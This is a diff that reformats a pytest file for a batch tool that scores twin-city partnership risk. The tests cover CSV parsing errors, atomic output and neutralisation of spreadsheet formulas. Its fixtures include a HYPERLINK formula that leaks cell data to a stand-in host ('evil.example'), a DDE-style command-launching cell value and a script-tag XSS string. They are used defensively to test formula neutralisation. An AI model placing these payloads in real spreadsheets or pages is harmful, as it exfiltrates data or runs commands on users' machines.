@@ -25,17 +25,28 @@ from twinrisk.cli import main
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 EVIL = "<script>alert(1)</script>"
-GROUPS = ("debt_exposure", "bri_participation", "strategic_location", "termination_precedents",
-          "bilateral_climate", "proposal_terms")
+GROUPS = (
+    "debt_exposure",
+    "bri_participation",
+    "strategic_location",
+    "termination_precedents",
+    "bilateral_climate",
+    "proposal_terms",
+)
 
 
 class FakeScorer:
     """A stand-in for ``twinrisk.assess_frame`` honouring its contract: one row out per
     row in, same index, an error message instead of a score for bad rows."""
 
-    known = {"Hambantota": ("gn:1", "LK"), "Guangzhou": ("gn:2", "CN"),
-             "Luleå": ("gn:3", "SE"), "Xi'an": ("gn:4", "CN"), "Kiel": ("gn:5", "DE"),
-             "Qingdao": ("gn:6", "CN")}
+    known = {
+        "Hambantota": ("gn:1", "LK"),
+        "Guangzhou": ("gn:2", "CN"),
+        "Luleå": ("gn:3", "SE"),
+        "Xi'an": ("gn:4", "CN"),
+        "Kiel": ("gn:5", "DE"),
+        "Qingdao": ("gn:6", "CN"),
+    }
 
     def __init__(self) -> None:
         self.calls: list[int] = []
@@ -59,10 +70,15 @@ class FakeScorer:
                 lid, lcc = self.known[r["local"]]
                 pid, pcc = self.known[r["partner"]]
                 score = (len(r["local"]) * 7 + len(r["partner"])) % 101
-                out.update(local_id=lid, partner_id=pid, local_resolved=f"{r['local']} ({lcc})",
-                           partner_resolved=f"{r['partner']} ({pcc})", score=score,
-                           band="low" if score < 25 else "moderate" if score < 50 else "high",
-                           top_reasons=f"{r['local']} is a seaport. (4 pts) | Other (1 pts)")
+                out.update(
+                    local_id=lid,
+                    partner_id=pid,
+                    local_resolved=f"{r['local']} ({lcc})",
+                    partner_resolved=f"{r['partner']} ({pcc})",
+                    score=score,
+                    band="low" if score < 25 else "moderate" if score < 50 else "high",
+                    top_reasons=f"{r['local']} is a seaport. (4 pts) | Other (1 pts)",
+                )
                 for g in GROUPS:
                     out[f"points_{g}"] = score // 6
             rows.append(out)
@@ -99,21 +115,48 @@ ROWS = [
 # --------------------------------------------------------------------------- neutralisation
 
 
-@pytest.mark.parametrize("value", ["=1+1", FORMULA, "+SUM(A1)", "-2+3", "@SUM(A1)", "\t=1",
-                                   "\r=1", "-cmd|' /C calc'!A0", "=", "+", "-"])
+@pytest.mark.parametrize(
+    "value",
+    [
+        "=1+1",
+        FORMULA,
+        "+SUM(A1)",
+        "-2+3",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+        "-cmd|' /C calc'!A0",
+        "=",
+        "+",
+        "-",
+    ],
+)
 def test_neutralise_formula_quotes_dangerous_cells(value: str) -> None:
     assert neutralise_formula(value) == "'" + value
 
 
-@pytest.mark.parametrize("value", ["Hambantota", "", "'=already quoted", " =leading space",
-                                   "-12.5", "+46", "1e-3", "a=b", "Xi'an"])
+@pytest.mark.parametrize(
+    "value",
+    [
+        "Hambantota",
+        "",
+        "'=already quoted",
+        " =leading space",
+        "-12.5",
+        "+46",
+        "1e-3",
+        "a=b",
+        "Xi'an",
+    ],
+)
 def test_neutralise_formula_leaves_safe_cells(value: str) -> None:
     assert neutralise_formula(value) == value
 
 
 def test_neutralise_frame_every_text_cell_and_header() -> None:
-    df = pd.DataFrame({"a": ["=1", "ok", None], "=b": pd.Series(["@x", 1, "-1"], dtype=object),
-                       "n": [1, -2, 3]})
+    df = pd.DataFrame(
+        {"a": ["=1", "ok", None], "=b": pd.Series(["@x", 1, "-1"], dtype=object), "n": [1, -2, 3]}
+    )
     out = neutralise_frame(df)
     assert out["a"].tolist()[:2] == ["'=1", "ok"] and pd.isna(out["a"].iloc[2])
     assert list(out.columns) == ["a", "'=b", "n"]
@@ -131,7 +174,7 @@ def test_score_frame_keeps_pass_through_and_explains_errors(fake: FakeScorer) ->
     out = score_frame(df)
     assert list(out.columns[: len(HEADER)]) == HEADER
     assert "score_input" in out.columns and out["score_input"].eq("old").all()
-    assert list(out.columns[-len(RESULT_COLUMNS):]) == list(RESULT_COLUMNS)
+    assert list(out.columns[-len(RESULT_COLUMNS) :]) == list(RESULT_COLUMNS)
     assert out["score"].dtype == "Int64"
     ok = out["error"] == ""
     assert ok.tolist() == [True, True, False, False, False]
@@ -221,27 +264,34 @@ def test_cli_exit_2_for_unreadable_input(tmp_path: Path, fake: FakeScorer, capsy
 
 def test_semicolon_csv_and_ragged_rows(tmp_path: Path, fake: FakeScorer) -> None:
     src = tmp_path / "in.csv"
-    src.write_text("\ufefflocal;Local_Country;partner;partner_country\n"
-                   "Hambantota;LK;Guangzhou;CN\n"
-                   "Kiel;DE;Qingdao;CN;extra\n"
-                   "\n"
-                   "Luleå;SE;Xi'an\n", encoding="utf-8")
+    src.write_text(
+        "\ufefflocal;Local_Country;partner;partner_country\n"
+        "Hambantota;LK;Guangzhou;CN\n"
+        "Kiel;DE;Qingdao;CN;extra\n"
+        "\n"
+        "Luleå;SE;Xi'an\n",
+        encoding="utf-8",
+    )
     result = score_file(src, tmp_path / "o.csv")
     assert (result.scored, result.failed) == (1, 2)
     df = pd.read_csv(tmp_path / "o.csv", dtype=str, keep_default_na=False)
     assert df.loc[0, "local_resolved"] == "Hambantota (LK)"
     assert df.loc[1, "error"].startswith("line 3: 5 fields but the header has 4")
     # a row cut short is never scored as if complete (its country would be guessed)
-    assert df.loc[2, "error"].startswith("line 5: 3 fields but the header has 4; "
-                                         "missing partner_country")
+    assert df.loc[2, "error"].startswith(
+        "line 5: 3 fields but the header has 4; missing partner_country"
+    )
     assert df.loc[2, "score"] == "" and df.loc[2, "local_resolved"] == ""
 
 
 def test_output_is_atomic_when_input_breaks_midway(tmp_path: Path, fake: FakeScorer) -> None:
     src = tmp_path / "in.csv"
     good = b"Hambantota,LK,Guangzhou,CN\n"
-    src.write_bytes(b"local,local_country,partner,partner_country\n" + good * 20000
-                    + "Lule\xe5,SE,Xi'an,CN\n".encode("latin-1"))
+    src.write_bytes(
+        b"local,local_country,partner,partner_country\n"
+        + good * 20000
+        + "Lule\xe5,SE,Xi'an,CN\n".encode("latin-1")
+    )
     with pytest.raises(BatchInputError, match="not UTF-8"):
         score_file(src, tmp_path / "o.csv", chunk_size=1000)
     assert list(tmp_path.iterdir()) == [src]  # no output, no partial file left
@@ -262,25 +312,34 @@ def test_cli_short_rows_are_row_errors(tmp_path: Path, fake: FakeScorer, capsys)
     missing) gets an error naming the missing columns and its line; the others are
     scored."""
     src = tmp_path / "in.csv"
-    src.write_text(CSV_HEADER + CSV_GOOD.format(1)
-                   + "2,Luleå,SE,Xi'an\n"       # cut after the partner's name
-                   + "3,Kiel,DE\n"              # cut after the local country
-                   + "4,Kiel,DE,Qingdao,CN\n"   # only the note missing
-                   + CSV_GOOD.format(5) + "6,Hambantota,LK,Guangz", encoding="utf-8")
+    src.write_text(
+        CSV_HEADER
+        + CSV_GOOD.format(1)
+        + "2,Luleå,SE,Xi'an\n"  # cut after the partner's name
+        + "3,Kiel,DE\n"  # cut after the local country
+        + "4,Kiel,DE,Qingdao,CN\n"  # only the note missing
+        + CSV_GOOD.format(5)
+        + "6,Hambantota,LK,Guangz",
+        encoding="utf-8",
+    )
     out = tmp_path / "out.csv"
     assert main(["batch", str(src), "-o", str(out), "-q"]) == 1
     captured = capsys.readouterr()
     assert "scored 2, failed 4" in captured.out
-    assert "row 2: line 3: 4 fields but the header has 6; missing partner_country, note" \
+    assert (
+        "row 2: line 3: 4 fields but the header has 6; missing partner_country, note"
         in captured.err
+    )
     df = read_out(out)
     assert df["ref"].tolist() == ["1", "2", "3", "4", "5", "6"]
     assert df.loc[[0, 4], "error"].tolist() == ["", ""]
     assert df.loc[[0, 4], "score"].str.isdigit().all()
-    expected = {1: ("line 3", "missing partner_country, note"),
-                2: ("line 4", "missing partner, partner_country, note"),
-                3: ("line 5", "missing note"),
-                5: ("line 7", "missing partner_country, note")}
+    expected = {
+        1: ("line 3", "missing partner_country, note"),
+        2: ("line 4", "missing partner, partner_country, note"),
+        3: ("line 5", "missing note"),
+        5: ("line 7", "missing partner_country, note"),
+    }
     for i, (line, missing) in expected.items():
         assert df.loc[i, "error"].startswith(f"{line}: "), df.loc[i, "error"]
         assert missing in df.loc[i, "error"] and "fields but the header has 6" in df.loc[i, "error"]
@@ -295,8 +354,9 @@ def test_score_csv_bytes_truncated_upload(fake: FakeScorer) -> None:
     assert summary == {"scored": 1, "failed": 1}
     df = pd.read_csv(io.BytesIO(out), dtype=str, keep_default_na=False)
     assert df.loc[0, "error"] == ""
-    assert df.loc[1, "error"].startswith("line 3: 3 fields but the header has 4; "
-                                         "missing partner_country")
+    assert df.loc[1, "error"].startswith(
+        "line 3: 3 fields but the header has 4; missing partner_country"
+    )
     assert df.loc[1, "score"] == ""
 
 
@@ -305,11 +365,15 @@ def test_cli_unclosed_quote_mid_file(tmp_path: Path, fake: FakeScorer, capsys) -
     value) would swallow row 4: line 3 gets the error, rows before and after it are
     scored, and the quoted value on line 5 is read correctly."""
     src = tmp_path / "in.csv"
-    src.write_text(CSV_HEADER + CSV_GOOD.format(1)
-                   + '2,Luleå,SE,"Xi\'an,CN,oops\n'
-                   + CSV_GOOD.format(3)
-                   + '4,Kiel,DE,Qingdao,CN,"a, quoted note"\n'
-                   + CSV_GOOD.format(5), encoding="utf-8")
+    src.write_text(
+        CSV_HEADER
+        + CSV_GOOD.format(1)
+        + "2,Luleå,SE,\"Xi'an,CN,oops\n"
+        + CSV_GOOD.format(3)
+        + '4,Kiel,DE,Qingdao,CN,"a, quoted note"\n'
+        + CSV_GOOD.format(5),
+        encoding="utf-8",
+    )
     out = tmp_path / "out.csv"
     assert main(["batch", str(src), "-o", str(out), "-q"]) == 1
     assert "scored 4, failed 1" in capsys.readouterr().out
@@ -325,7 +389,7 @@ def test_cli_unclosed_quote_mid_file(tmp_path: Path, fake: FakeScorer, capsys) -
 
 def test_unclosed_quote_at_end_of_file(fake: FakeScorer) -> None:
     header = "local,local_country,partner,partner_country\n"
-    data = header + "Kiel,DE,Qingdao,CN\n" + '"Luleå,SE,Xi\'an,CN\n'
+    data = header + "Kiel,DE,Qingdao,CN\n" + "\"Luleå,SE,Xi'an,CN\n"
     out, summary = score_csv_bytes(data.encode())
     assert summary == {"scored": 1, "failed": 1}
     df = pd.read_csv(io.BytesIO(out), dtype=str, keep_default_na=False)
@@ -370,9 +434,14 @@ def test_multi_line_note_is_kept(tmp_path: Path, fake: FakeScorer) -> None:
     row's quote closed it, even when the field count happens to match the header: the
     row with the open quote fails, the rows it swallowed are read again and scored."""
     src = tmp_path / "in.csv"
-    src.write_text(CSV_HEADER + '1,Hambantota,LK,Guangzhou,CN,"first line\nsecond line"\n'
-                   + '2,Kiel,DE,"Qingdao,CN,x\n' + CSV_GOOD.format(3)
-                   + '4,Kiel,DE,"Qingdao",CN,y\n', encoding="utf-8")
+    src.write_text(
+        CSV_HEADER
+        + '1,Hambantota,LK,Guangzhou,CN,"first line\nsecond line"\n'
+        + '2,Kiel,DE,"Qingdao,CN,x\n'
+        + CSV_GOOD.format(3)
+        + '4,Kiel,DE,"Qingdao",CN,y\n',
+        encoding="utf-8",
+    )
     result = score_file(src, tmp_path / "out.csv")
     assert (result.scored, result.failed) == (3, 1)
     df = read_out(tmp_path / "out.csv")
@@ -393,12 +462,17 @@ def test_value_over_field_limit_is_a_row_error(fake: FakeScorer) -> None:
     assert df.loc[0, "error"].startswith("line 2: a value longer than 131,072 characters")
 
 
-@pytest.mark.parametrize("header, named", [
-    ("local,local,local_country,partner,partner_country", "'local' in columns 1 and 2"),
-    ("Local,local_country,partner,LOCAL,partner_country",
-     "'local' (written 'LOCAL' and 'Local') in columns 1 and 4"),
-    ("local,partner,note,note", "'note' in columns 3 and 4"),
-])
+@pytest.mark.parametrize(
+    "header, named",
+    [
+        ("local,local,local_country,partner,partner_country", "'local' in columns 1 and 2"),
+        (
+            "Local,local_country,partner,LOCAL,partner_country",
+            "'local' (written 'LOCAL' and 'Local') in columns 1 and 4",
+        ),
+        ("local,partner,note,note", "'note' in columns 3 and 4"),
+    ],
+)
 def test_duplicate_header_refused(header: str, named: str, fake: FakeScorer) -> None:
     with pytest.raises(BatchInputError) as err:
         score_csv_bytes(f"{header}\nLuleå,Kiel,SE,Xi'an,CN\n".encode())
@@ -409,8 +483,10 @@ def test_duplicate_header_refused(header: str, named: str, fake: FakeScorer) -> 
 
 def test_cli_duplicate_header_exit_2(tmp_path: Path, fake: FakeScorer, capsys) -> None:
     src = tmp_path / "in.csv"
-    src.write_text("local,local,local_country,partner,partner_country\n"
-                   "Luleå,Kiel,SE,Xi'an,CN\n", encoding="utf-8")
+    src.write_text(
+        "local,local,local_country,partner,partner_country\nLuleå,Kiel,SE,Xi'an,CN\n",
+        encoding="utf-8",
+    )
     out = tmp_path / "out.csv"
     assert main(["batch", str(src), "-o", str(out)]) == 2
     err = capsys.readouterr().err
@@ -456,8 +532,15 @@ def test_jsonl_in_xlsx_out(tmp_path: Path, fake: FakeScorer) -> None:
     from openpyxl import load_workbook
 
     lines = [
-        json.dumps({"local": "Hambantota", "local_country": "LK", "partner": "Guangzhou",
-                    "partner_country": "CN", "sensitive_domains": ["ports", "culture"]}),
+        json.dumps(
+            {
+                "local": "Hambantota",
+                "local_country": "LK",
+                "partner": "Guangzhou",
+                "partner_country": "CN",
+                "sensitive_domains": ["ports", "culture"],
+            }
+        ),
         "{not json",
         json.dumps({"local": "Luleå", "partner": "Xi'an", "note": FORMULA}),
         "",
@@ -469,8 +552,14 @@ def test_jsonl_in_xlsx_out(tmp_path: Path, fake: FakeScorer) -> None:
     ws = load_workbook(tmp_path / "o.xlsx").active
     rows = list(ws.iter_rows(values_only=True))
     header = rows[0]
-    assert header[:6] == ("local", "local_country", "partner", "partner_country",
-                          "sensitive_domains", "note")
+    assert header[:6] == (
+        "local",
+        "local_country",
+        "partner",
+        "partner_country",
+        "sensitive_domains",
+        "note",
+    )
     get = {name: i for i, name in enumerate(header)}
     assert rows[1][get["sensitive_domains"]] == "ports,culture"
     assert isinstance(rows[1][get["score"]], int)
@@ -491,9 +580,10 @@ def test_parquet_in_csv_out_round_trip(tmp_path: Path, fake: FakeScorer) -> None
 
 
 def test_score_csv_bytes(fake: FakeScorer) -> None:
-    data = "\n".join(",".join(r) for r in [HEADER[:6], GOOD[:6],
-                                          ["2", FORMULA.replace(",", ";"), "", "Guangzhou", "CN",
-                                           ""]]).encode()
+    data = "\n".join(
+        ",".join(r)
+        for r in [HEADER[:6], GOOD[:6], ["2", FORMULA.replace(",", ";"), "", "Guangzhou", "CN", ""]]
+    ).encode()
     out, summary = score_csv_bytes(data)
     assert summary == {"scored": 1, "failed": 1}
     df = pd.read_csv(io.BytesIO(out), dtype=str, keep_default_na=False)
@@ -540,9 +630,13 @@ def test_real_pipeline_batch(tmp_path: Path, capsys) -> None:
 
 def test_dyads_table_columns_accepted(tmp_path: Path, fake: FakeScorer) -> None:
     """features/dyads.csv names its columns local_place / partner_place."""
-    src = write_csv(tmp_path / "dyads.csv", [
-        ["dyad_id", "local_place", "local_country", "partner_place", "partner_country"],
-        ["hambantota-guangzhou", "Hambantota", "LK", "Guangzhou", "CN"]])
+    src = write_csv(
+        tmp_path / "dyads.csv",
+        [
+            ["dyad_id", "local_place", "local_country", "partner_place", "partner_country"],
+            ["hambantota-guangzhou", "Hambantota", "LK", "Guangzhou", "CN"],
+        ],
+    )
     result = score_file(src, tmp_path / "new" / "dir" / "o.csv")  # folders created
     assert (result.scored, result.failed) == (1, 0)
     df = pd.read_csv(tmp_path / "new" / "dir" / "o.csv", dtype=str)
